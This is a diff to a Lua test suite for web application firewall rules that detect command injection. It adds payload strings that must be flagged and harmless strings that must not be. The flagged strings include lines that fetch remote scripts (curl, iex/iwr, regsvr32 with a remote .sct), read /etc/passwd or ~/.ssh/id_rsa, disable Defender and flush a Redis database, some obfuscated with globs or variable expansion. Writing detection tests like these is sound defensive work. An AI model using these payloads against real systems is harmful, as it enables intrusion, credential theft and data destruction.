@@ -13,10 +13,12 @@ describe_rules("edge.waf.rules command injection shapes", function()
 
     it("132100 / 132105: more commands after a separator; tool names need a flag, path or URL", function()
         caught_by(132100, { "; mshta http://h/x.hta", "& vssadmin list shadows", "; lwp-download http://h/x /tmp/x",
-            "|regsvr32 /s /i:http://h/x.sct scrobj.dll", "; gunzip -c x.gz", "x;ls>/tmp/o", "<(curl -s http://h/x)" })
+            "|regsvr32 /s /i:http://h/x.sct scrobj.dll", "; gunzip -c x.gz", "x;ls>/tmp/o", "<(curl -s http://h/x)",
+            "; lsblk", "| net1 user", "& robocopy c:\\x d:\\y", "| redis-cli -h 10.0.0.1 flushall" })
         caught_by(132105, { "a;find / -perm -4000", "| strings /bin/ls", "; docker -H tcp://h:2375 ps",
             "; git -c core.pager=sh log", "; ssh -o StrictHostKeyChecking=no u@h", "| sqlite3 /dev/null",
-            "; rsync -a /var/www h::x", "; cat</etc/hosts" })
+            "; rsync -a /var/www h::x", "; cat</etc/hosts",
+            "; su -c id", "; java -jar /tmp/x.jar", "; df -h" })
         clean({ "I <3 bash, vim & tmux", "Python | Go | MySQL | Docker", "search & find", "sort & filter",
             "npm install && npm test should pass", "vim | tmux | git", "`grep ERROR api.log | tail -n 50` shows nothing",
             "```\nkubectl get pods -n payments\n```", "I love my dog & cat <3" })
@@ -24,15 +26,24 @@ describe_rules("edge.waf.rules command injection shapes", function()
 
     it("132110: substring expansion and variables glued inside a word", function()
         caught_by(132110, { "${PATH:0:1}etc${PATH:0:1}passwd", "; w${x}hoami", ";$u$@name -a", "${HOME:0:-3}",
-            "| pwsh -c whoami", "cmd /v:on /c dir" })
-        clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c" })
+            "| pwsh -c whoami", "cmd /v:on /c dir",
+            "bash<<<$(base64 -d<<<aWQ=)", "$((1+2))", "node -e 'require(1)'", "x; if [ -f /x ]; then id; fi",
+            "for i in $(seq 1 5); do id; done", "-oProxyCommand=sh -c id", "--checkpoint-action=exec=sh x.sh",
+            "find . -exec id \\;" })
+        clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c", "it$'s fine",
+            "if [optional] we add it; then we ship", "Task A; done" })
     end)
 
     it("132140: cmd.exe grammar: FOR, IF EXIST, START /B, CALL, SC", function()
         caught_by(132140, { "& for /f \"tokens=*\" %a in ('whoami') do echo %a", "for %i in (1 2) do dir",
             "for /l %i in (1,1,9) do ping 10.0.0.%i", "& if exist c:\\windows\\win.ini type x", "start /b calc.exe",
-            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir" })
+            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir", "&%COMSPEC:~0,1%" })
         clean({ "for /f loops are confusing", "if exist, call me", "Start me up", "SC query letters" })
+    end)
+
+    it("132160: a command word spelled with glob wildcards after a separator", function()
+        caught_by(132160, { "; c?t /etc/hosts", "| wh*ami -a", "&& ?at ~/.ssh/id_rsa" })
+        clean({ "what?; *shrug* ok", "done; ok? -- yes" })
     end)
 
     it("132180: a command line as the whole value, or a command named by its bin path", function()
@@ -53,7 +64,8 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "iex(iwr http://h/a)", "[Convert]::FromBase64String('aWV4') | iex",
             "[System.Diagnostics.Process]::Start('cmd.exe')", "(New-Object System.Net.WebClient).DownloadFile('x','y')",
             "$ExecutionContext.InvokeCommand.InvokeScript('id')", "&('I'+'EX') 'whoami'",
-            "Set-MpPreference -DisableRealtimeMonitoring $true" })
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+            "powershell -nop -w hidden -ep bypass", "[char]105+[char]101", "$env:comspec /c whoami", "&(gcm i*x) 'id'" })
         clean({ "set-up guide", "Get-Together 2024", "out-of-band", "read-only mode", "iex (Investors Exchange)",
             "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
             "open PowerShell as admin and run the installer", "Ex-Windows admin, now writing PowerShell for fun" })
